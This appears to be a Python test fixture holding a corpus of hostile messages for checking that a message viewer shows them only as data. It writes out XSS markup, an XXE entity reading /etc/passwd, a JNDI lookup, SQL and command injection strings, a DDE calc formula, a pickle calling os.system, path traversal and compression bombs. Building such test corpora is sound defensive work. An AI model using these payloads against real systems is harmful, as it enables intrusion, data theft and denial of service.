"""Messages that attack their viewer: markup, links, terminal escapes, formulas, sizes, nesting,
broken encodings.

Every view, tool-tip, export, clipboard text and log line must show these as data. One list for
all the tests.
"""

from __future__ import annotations

import gzip
import json
import struct
import zlib
from dataclasses import dataclass

MARK = "HOSTILE"
"""Stands in payloads whose text must be shown; a test can look for it."""


@dataclass(frozen=True)
class Payload:
    name: str
    value: bytes | None
    key: bytes | None = b"key"
    headers: tuple[tuple[str, bytes | None], ...] = ()


def _text(name: str, text: str) -> Payload:
    data = text.encode("utf-8", "surrogatepass")
    return Payload(
        name,
        data,
        data[:200],
        (("header", data[:200]), (text[:100].encode("utf-8", "replace").decode(), b"x")),
    )


MARKUP = [
    '<img src="file:///etc/hostname">' + MARK,
    '<img src="http://203.0.113.1/x.png">' + MARK,
    "<b>" + MARK + "</b>",
    f'{{"a": "<b>{MARK}</b>"}}',
    f'<a href="javascript:alert(1)">{MARK}</a>',
    f'<a href="file:///etc/passwd">{MARK}</a>',
    f"<script>alert('{MARK}')</script>",
    f"<style>* {{ color: transparent }}</style>{MARK}",
    f"<table width=100000><tr><td>{MARK}</td></tr></table>",
    "<font size=7000>" + MARK + "</font>",
    "<!DOCTYPE html><html><body>" + MARK,
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>" + MARK,
    "<!--" + MARK,
    "&lt;b&gt;&amp;&#60;&quot;" + MARK,
    "<svg onload=alert(1)>" + MARK,
    "<meta http-equiv=refresh content='0;url=http://203.0.113.1'>" + MARK,
    "<qt>" + MARK + "</qt>",
    "<p dir=rtl>" + MARK,
    "[" + MARK + "](javascript:alert(1)) **bold** `code`",
    "![x](file:///etc/hostname) " + MARK,
]
TEMPLATES = [
    "{{7*7}} " + MARK,
    "${7*7} " + MARK,
    "${env:HOME} ${file:/etc/passwd} " + MARK,
    "${jndi:ldap://203.0.113.1/a} " + MARK,
    "%s%s%s%n%x " + MARK,
    "{0.__class__.__mro__} " + MARK,
    "%1 %2 %n &File " + MARK,
    "__import__('os').system('true') " + MARK,
    "'; DROP TABLE samples; -- " + MARK,
    "$(touch /tmp/x) `touch /tmp/x` " + MARK,
    "--option-injection " + MARK,
    "../../../../etc/passwd " + MARK,
]
FORMULAS = [
    "=1+1 " + MARK,
    "+1+1 " + MARK,
    "-1+1 " + MARK,
    "@SUM(A1) " + MARK,
    "\t=1 " + MARK,
    "\r=1 " + MARK,
    '=HYPERLINK("http://203.0.113.1")' + MARK,
    "=cmd|' /C calc'!A0 " + MARK,
    'quote " inside, and, commas\nand lines ' + MARK,
]
ESCAPES = [
    "\x1b[31mred\x1b[0m " + MARK,
    "\x1b]0;title\x07 " + MARK,
    "\x1b]52;c;aGk=\x07 " + MARK,
    "\x1b]8;;http://203.0.113.1\x1b\\link\x1b]8;;\x1b\\ " + MARK,
    "\x9b31m C1 " + MARK,
    "\x00nul\x00 " + MARK,
    "\x07\x08\x0b\x0c bells " + MARK,
    "line\r\nline\rline\n" + MARK,
    "\u2028\u2029\x85 " + MARK,
    "\x7f" * 50 + MARK,
]
UNICODE = [
    "\u202e" + MARK + " reversed",
    "\u2066\u2067\u2068\u2069 isolates " + MARK,
    "\u200b\u200c\u200d\ufeff zero width " + MARK,
    "e" + "\u0301" * 500 + " zalgo " + MARK,
    "\U000e0001\U000e0020 tags " + MARK,
    "👩‍👩‍👧‍👦" * 50 + MARK,
    "漢字かな交じり文 " * 40 + MARK,
    "مرحبا שלום " * 40 + MARK,
    "\ufffe\uffff noncharacters " + MARK,
    "аdmin (Cyrillic a) " + MARK,
    "ﷺ" * 200 + MARK,
    "\u3164\u115f\u1160 fillers " + MARK,
]
BYTES: list[tuple[str, bytes | None]] = [
    ("null value", None),
    ("empty", b""),
    ("all bytes", bytes(range(256))),
    ("invalid utf-8", b"\xff\xfe\xfd" * 20),
    ("overlong utf-8", b"\xc0\xaf\xe0\x80\xaf"),
    ("cut utf-8", "漢".encode()[:2]),
    ("surrogates", b"\xed\xa0\x80\xed\xb0\x80"),
    ("utf-16", MARK.encode("utf-16")),
    ("utf-8 with mark", b"\xef\xbb\xbf{}"),
    ("int64 edge", struct.pack(">q", -(2**63))),
    ("int32", struct.pack(">i", 2**31 - 1)),
    ("double nan", struct.pack(">d", float("nan"))),
    ("java serialised", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"),
    (
        "python pickle",
        b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x94.",
    ),
    ("gzip bomb", gzip.compress(b"\x00" * 20_000_000)),
    ("zlib bomb", zlib.compress(b"\x00" * 20_000_000)),
    ("avro wire, unknown schema", b"\x00\x00\x00\x00\x63" + b"\x02" * 40),
    ("avro forged length", b"\x00\x00\x00\x00\x01" + b"\xfe\xff\xff\xff\xff\xff\xff\xff\xff\x01"),
    ("protobuf-like nesting", b"\x0a\x7f" * 500),
    ("msgpack forged array", b"\xdd\xff\xff\xff\xff"),
    ("msgpack forged map", b"\xdf\xff\xff\xff\xff"),
    ("msgpack nesting", b"\x91" * 100_000),
    ("cbor forged array", b"\x9b\xff\xff\xff\xff\xff\xff\xff\xff"),
    ("cbor nesting", b"\x81" * 100_000),
    ("cbor endless string", b"\x7f" + b"\x61a" * 1000),
    ("png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40),
    ("zip", b"PK\x03\x04" + b"\x00" * 40),
    ("pdf", b"%PDF-1.7\n"),
    ("elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 40),
]
JSON: list[tuple[str, str]] = [
    ("nested arrays", "[" * 100_000 + "]" * 100_000),
    ("nested objects", '{"a":' * 50_000 + "1" + "}" * 50_000),
    ("unclosed nesting", "[" * 200_000),
    ("five thousand digits", "9" * 5000),
    ("huge exponent", "1e999999999"),
    ("exact int64", json.dumps({"id": 9007199254740993, "max": 2**63 - 1})),
    ("exact decimal", '{"price": 0.1000000000000000055511151231257827}'),
    ("duplicate keys", '{"a": 1, "a": 2}'),
    ("nan and infinity", '{"a": NaN, "b": Infinity, "c": -Infinity}'),
    ("lone surrogate", r'{"a": "\ud800"}'),
    ("nul in key", r'{"a\u0000b": 1}'),
    ("markup in key", json.dumps({"<b>" + MARK + "</b>": 1})),
    ("ten thousand keys", json.dumps({f"key{i}": i for i in range(10_000)})),
    ("hundred thousand items", json.dumps(list(range(100_000)))),
    ("empty key", '{"": {"": {"": 1}}}'),
    ("__proto__", '{"__proto__": {"x": 1}, "constructor": 1, "__class__": 2}'),
    ("trailing comma", '{"a": 1,}'),
    ("comment", '{/* c */ "a": 1} // ' + MARK),
    ("single quotes", "{'a': 'b'}"),
    ("two documents", '{"a":1}{"b":2}'),
    ("only a string", json.dumps("<b>" + MARK + "</b>")),
    ("only null", "null"),
    ("white space", " " * 100_000),
    ("escaped slash and unicode", r'"\u003cb\u003eHOSTILE\u003c\/b\u003e"'),
]
SIZES: list[tuple[str, bytes]] = [
    ("1 MB line", b"x" * 1_000_000),
    ("5 MB line", b"y" * 5_000_000),
    ("1 MB of lines", b"line\n" * 200_000),
    (
        "2 MB JSON line",
        json.dumps({"items": [{"id": i, "name": "n" * 50} for i in range(25_000)]}).encode(),
    ),
    ("1 MB of markup", b"<b>" * 330_000),
    ("1 MB of wide characters", "漢".encode() * 330_000),
    ("1 MB without a break in hex", bytes(range(256)) * 4000),
]

CORPUS: list[Payload] = [
    *(_text(f"markup {i}", t) for i, t in enumerate(MARKUP)),
    *(_text(f"template {i}", t) for i, t in enumerate(TEMPLATES)),
    *(_text(f"formula {i}", t) for i, t in enumerate(FORMULAS)),
    *(_text(f"escape {i}", t) for i, t in enumerate(ESCAPES)),
    *(_text(f"unicode {i}", t) for i, t in enumerate(UNICODE)),
    *(Payload(name, data, data) for name, data in BYTES),
    *(Payload("json " + name, text.encode()) for name, text in JSON),
    *(Payload(name, data) for name, data in SIZES),
    Payload("null key", b"value", None),
    Payload("a thousand headers", b"v", b"k", tuple((f"h{i}", b"x") for i in range(1000))),
    Payload("a large header", b"v", b"k", (("big", b"z" * 500_000),)),
    Payload("null header", b"v", b"k", (("null", None), ("", b""))),
]
